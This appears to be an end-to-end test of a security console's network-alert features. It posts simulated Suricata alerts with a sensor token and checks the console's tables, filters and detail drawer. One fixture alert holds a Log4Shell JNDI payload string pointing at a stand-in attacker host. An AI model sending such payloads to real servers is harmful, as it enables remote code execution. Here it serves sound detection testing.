// End-to-end test of network alerts in the console.
//
// As the center admin: create an enterprise, see its empty 告警 tab explain
// how to connect a sensor, follow it to API 令牌 and create a token of use
// 网络传感器 (the secret is read from the dialog that shows it once). Then,
// outside the browser, act as the sensor: post two EVE alert events to
// /api/v1/ingest/events with that token, and post them again to see them
// counted as duplicates. Back in the 告警 tab: exactly two rows, newest
// first; the severity filter, the text and IP search, and the drawer with the
// raw EVE event. Last, the center's 告警中心 (side menu): both alerts with the
// enterprise's name, counted by severity, and the severity filter there.
//
// Environment: see support.mjs.

import { test } from 'node:test'
import assert from 'node:assert/strict'
import http from 'node:http'
import https from 'node:https'
import {
  byTestId,
  createEnterprise,
  env,
  openBrowser,
  randomCreditCode,
  screenshot,
  signInAsAdmin,
  stepper,
  timeStamp,
} from './support.mjs'

const LOG4J = 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)'
const CURL = 'ET INFO curl User-Agent Outbound'

// ---- The sensor's side -------------------------------------------------------------

// Suricata's EVE time: "2026-11-22T08:00:00.123456+0000".
function eveTime(d) {
  return d.toISOString().replace(/\.(\d{3})Z$/, '.$1000+0000')
}

function log4jEvent(at) {
  return {
    timestamp: eveTime(at),
    flow_id: 1404531755431402,
    in_iface: 'eth1',
    event_type: 'alert',
    src_ip: '203.0.113.5',
    src_port: 44512,
    dest_ip: '10.1.2.3',
    dest_port: 8080,
    proto: 'TCP',
    app_proto: 'http',
    alert: {
      action: 'allowed',
      gid: 1,
      signature_id: 2034647,
      rev: 3,
      signature: LOG4J,
      category: 'Attempted Administrator Privilege Gain',
      severity: 1,
      metadata: { cve: ['CVE_2021_44228'] },
    },
    http: {
      hostname: '10.1.2.3',
      url: '/?x=${jndi:ldap://203.0.113.5:1389/Exploit}',
      http_user_agent: '${jndi:ldap://203.0.113.5:1389/Exploit}',
      http_method: 'GET',
      protocol: 'HTTP/1.1',
      length: 0,
    },
  }
}

function curlEvent(at) {
  return {
    timestamp: eveTime(at),
    flow_id: 982341209873412,
    in_iface: 'eth1',
    event_type: 'alert',
    src_ip: '10.1.2.50',
    src_port: 51234,
    dest_ip: '198.51.100.20',
    dest_port: 80,
    proto: 'TCP',
    app_proto: 'http',
    alert: {
      action: 'allowed',
      gid: 1,
      signature_id: 2013028,
      rev: 7,
      signature: CURL,
      category: 'Misc activity',
      severity: 3,
    },
    http: {
      hostname: 'updates.example.com',
      url: '/latest.tar.gz',
      http_user_agent: 'curl/7.88.1',
      http_method: 'GET',
      protocol: 'HTTP/1.1',
      length: 0,
    },
  }
}

// POST /api/v1/ingest/events as a sensor does. The test server's certificate
// is self-signed: it is not verified here (and only here).
function postEvents(secret, events) {
  const body = JSON.stringify({ events })
  const url = new URL('/api/v1/ingest/events', env.url)
  const client = url.protocol === 'https:' ? https : http
  return new Promise((resolve, reject) => {
    const req = client.request(
      url,
      {
        method: 'POST',
        headers: {
          Authorization: `Bearer ${secret}`,
          'Content-Type': 'application/json',
          'Content-Length': Buffer.byteLength(body),
        },
        rejectUnauthorized: false,
        timeout: 10_000,
      },
      (res) => {
        let text = ''
        res.setEncoding('utf8')
        res.on('data', (chunk) => (text += chunk))
        res.on('end', () => {
          let json = null
          try {
            json = JSON.parse(text)
          } catch {
            // kept as text in the failure message
          }
          if (res.statusCode !== 200) reject(new Error(`ingest answered ${res.statusCode}: ${text}`))
          else resolve(json)
        })
      },
    )
    req.on('timeout', () => req.destroy(new Error('ingest: no answer within 10 s')))
    req.on('error', reject)
    req.end(body)
  })
}

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

// ---- Page helpers ------------------------------------------------------------------

const alertRows = (page) => page.locator('[data-testid="alert-table"] .el-table__body tr.el-table__row')

// Waits until the table shows exactly these signatures, in this order.
async function expectSignatures(page, expected, timeout = 10_000) {
  const deadline = Date.now() + timeout
  let seen = []
  while (Date.now() < deadline) {
    const loading = await page.locator('[data-testid="alert-table"] .el-loading-mask:visible').count()
    seen = (await page.locator('[data-testid="alert-table"] [data-testid="alert-signature"]').allInnerTexts()).map((s) =>
      s.trim(),
    )
    if (!loading && JSON.stringify(seen) === JSON.stringify(expected)) return
    await sleep(100)
  }
  assert.deepEqual(seen, expected, 'alerts shown')
}

async function chooseSeverity(page, value) {
  await byTestId(page, 'alert-severity-filter').click()
  await page.locator(`[data-testid="alert-severity-option"][data-value="${value}"]:visible`).click()
}

async function search(page, text) {
  await byTestId(page, 'alert-search').fill(text)
  await byTestId(page, 'alert-search-submit').click()
}

// ---- The test ----------------------------------------------------------------------

test('a sensor reports alerts and the console shows them', async (t) => {
  const { browser, page, consoleErrors } = await openBrowser()
  const step = stepper(t, page, consoleErrors, 'alerts-failure.png')
  const stamp = timeStamp()
  const sensorName = `厂区出口传感器 ${stamp}`
  const enterpriseName = `守望告警测试企业 ${stamp}`
  let secret = ''
  const seenAt = new Date()
  const curl = { id: `test-${stamp}-1`, event: curlEvent(new Date(seenAt.getTime() - 60_000)) }
  const log4j = { id: `test-${stamp}-2`, event: log4jEvent(seenAt) }

  try {
    await step('sign in', async () => {
      await signInAsAdmin(page)
    })

    await step('create an enterprise', async () => {
      await createEnterprise(page, enterpriseName, randomCreditCode())
    })

    await step('the empty 告警 tab explains how to connect a sensor', async () => {
      await page.locator('#tab-alerts').click()
      const empty = page.locator('[data-testid="alert-table"] [data-testid="empty-state"]')
      await empty.waitFor()
      const text = await empty.innerText()
      assert.ok(text.includes('还没有告警'), `the empty state says there are no alerts: "${text}"`)
      assert.ok(text.includes('部署网络传感器后'), 'the empty state says what to do')
      const command = await empty.getByTestId('sensor-command').innerText()
      const origin = new URL(env.url).origin
      assert.ok(command.includes('shouwang sensor'), `the command runs the sensor: "${command}"`)
      assert.ok(command.includes(`--upload ${origin}`), `the command uploads to this server (${origin}): "${command}"`)
      assert.ok(command.includes('--token '), 'the command takes the token')
      await screenshot(page, 'alerts-empty.png')
    })

    await step('create a 网络传感器 token from the help and read its secret', async () => {
      await page.locator('[data-testid="alert-table"] [data-testid="sensor-help-tokens"]').click()
      await page.waitForURL((u) => u.searchParams.get('tab') === 'tokens')
      await byTestId(page, 'token-create').click()
      await byTestId(page, 'token-form-name').fill(sensorName)
      const kind = byTestId(page, 'token-kind-sensor')
      assert.ok((await kind.innerText()).includes('网络传感器'), 'the token use is called 网络传感器')
      await kind.click()
      await byTestId(page, 'token-form-submit').click()
      const dialog = byTestId(page, 'token-secret-dialog')
      await dialog.waitFor()
      secret = await byTestId(page, 'token-secret').inputValue()
      assert.match(secret, /^sw_\S{16,}$/, 'the dialog shows the secret')
      await byTestId(page, 'token-secret-close').click()
      await dialog.waitFor({ state: 'hidden' })
      const row = page.locator('[data-testid="token-table"] .el-table__body tr', { hasText: sensorName })
      assert.ok((await row.innerText()).includes('网络传感器'), 'the token is listed as a sensor token')
    })

    await step('the sensor posts two alerts (ingest accepts both)', async () => {
      // One delivery per alert, as they happened: the list is newest first
      // by arrival, and alerts of one batch arrive at the same moment.
      const first = await postEvents(secret, [curl])
      await sleep(20)
      const second = await postEvents(secret, [log4j])
      assert.deepEqual(
        { accepted: first.accepted + second.accepted, duplicates: first.duplicates + second.duplicates },
        { accepted: 2, duplicates: 0 },
        `ingest answers: ${JSON.stringify([first, second])}`,
      )
      assert.deepEqual([...first.rejected, ...second.rejected], [], 'nothing rejected')
    })

    await step('the same batch sent again is stored once (duplicates 2)', async () => {
      const again = await postEvents(secret, [curl, log4j])
      assert.equal(again.accepted, 0, `ingest answer: ${JSON.stringify(again)}`)
      assert.equal(again.duplicates, 2, `ingest answer: ${JSON.stringify(again)}`)
      assert.deepEqual(again.rejected, [])
    })

    await step('the 告警 tab lists exactly the two alerts, newest first', async () => {
      await page.locator('#tab-alerts').click()
      await byTestId(page, 'alert-refresh').click()
      await expectSignatures(page, [LOG4J, CURL])
      const top = alertRows(page).first()
      const severity = top.getByTestId('alert-severity')
      assert.equal(await severity.getAttribute('data-severity'), '1')
      assert.equal((await severity.innerText()).trim(), '高危')
      const flow = (await top.getByTestId('alert-flow').innerText()).replace(/\s+/g, ' ').trim()
      assert.equal(flow, '203.0.113.5:44512 → 10.1.2.3:8080')
      assert.equal((await top.getByTestId('alert-proto').innerText()).trim(), 'TCP / http')
      assert.equal((await top.getByTestId('alert-sensor').innerText()).trim(), sensorName)
      assert.equal(
        (await top.getByTestId('alert-category').innerText()).trim(),
        'Attempted Administrator Privilege Gain',
      )
      assert.equal((await alertRows(page).nth(1).getByTestId('alert-severity').innerText()).trim(), '低危')
      await screenshot(page, 'alerts.png')
    })

    await step('filter 高危及以上, search curl and search by IP', async () => {
      await chooseSeverity(page, 1)
      await expectSignatures(page, [LOG4J])

      // 高危 and curl together: nothing, said plainly.
      await search(page, 'curl')
      await expectSignatures(page, [])
      const empty = page.locator('[data-testid="alert-table"] [data-testid="empty-state"]')
      assert.ok((await empty.innerText()).includes('没有符合条件的告警'))

      await chooseSeverity(page, 0)
      await expectSignatures(page, [CURL])

      await search(page, '203.0.113.5')
      await expectSignatures(page, [LOG4J])

      await search(page, '')
      await expectSignatures(page, [LOG4J, CURL])
    })

    await step('the drawer shows the alert and its EVE JSON', async () => {
      await alertRows(page).first().getByTestId('alert-signature').click()
      const drawer = byTestId(page, 'alert-drawer')
      await drawer.waitFor()
      assert.equal((await drawer.getByTestId('alert-drawer-signature').innerText()).trim(), LOG4J)
      const facts = await drawer.getByTestId('alert-facts').innerText()
      for (const text of ['203.0.113.5:44512', '10.1.2.3:8080', '1:2034647:3', sensorName, log4j.id]) {
        assert.ok(facts.includes(text), `the drawer shows ${text}`)
      }
      const eve = await drawer.getByTestId('alert-eve-json').innerText()
      assert.ok(eve.includes('CVE-2021-44228'), 'the EVE JSON has the signature')
      assert.ok(eve.includes('"event_type": "alert"'), 'the EVE JSON is pretty-printed')
      assert.ok(eve.includes('${jndi:ldap://'), 'the EVE JSON has the HTTP request')
      await page.waitForTimeout(400) // the drawer's slide-in
      await page.screenshot({
        path: `${env.artifacts}/alert-drawer.png`,
        animations: 'disabled',
        style: '.el-message { display: none !important; }',
      })
      console.log(`  screenshot: ${env.artifacts}/alert-drawer.png`)
    })

    await step('告警中心 (side menu) lists both alerts with the enterprise name', async () => {
      await page.keyboard.press('Escape')
      await byTestId(page, 'alert-drawer').waitFor({ state: 'hidden' })
      const tenantPath = new URL(page.url()).pathname
      await byTestId(page, 'nav-alerts').click()
      await page.waitForURL((u) => u.pathname === '/alerts')
      await expectSignatures(page, [LOG4J, CURL])

      // Names are looked up after the list arrives.
      const tenantCells = page.locator('[data-testid="alert-table"] [data-testid="alert-tenant"]')
      const deadline = Date.now() + 10_000
      let names = []
      while (Date.now() < deadline) {
        names = (await tenantCells.allInnerTexts()).map((s) => s.trim())
        if (names.length === 2 && names.every((n) => n === enterpriseName)) break
        await sleep(100)
      }
      assert.deepEqual(names, [enterpriseName, enterpriseName], 'the 企业 column names the enterprise')
      assert.equal(await tenantCells.first().getAttribute('href'), `${tenantPath}?tab=alerts`, 'the name links to its page')

      const summary = byTestId(page, 'alert-summary')
      const count = async (level) =>
        summary.locator(`[data-testid="alert-summary-count"][data-level="${level}"]`).getAttribute('data-count')
      assert.deepEqual(
        { high: await count('high'), medium: await count('medium'), low: await count('low'), info: await count('info') },
        { high: '1', medium: '0', low: '1', info: '0' },
        'the summary counts the loaded alerts by severity',
      )
      assert.ok((await summary.innerText()).includes('高危 1'), 'the summary says 高危 1')
      await screenshot(page, 'alert-center.png')
    })

    await step('告警中心: 高危及以上 leaves one row', async () => {
      await chooseSeverity(page, 1)
      await expectSignatures(page, [LOG4J])
      assert.equal(await alertRows(page).count(), 1)
      assert.equal((await alertRows(page).first().getByTestId('alert-tenant').innerText()).trim(), enterpriseName)
    })
  } finally {
    await browser.close()
  }
})
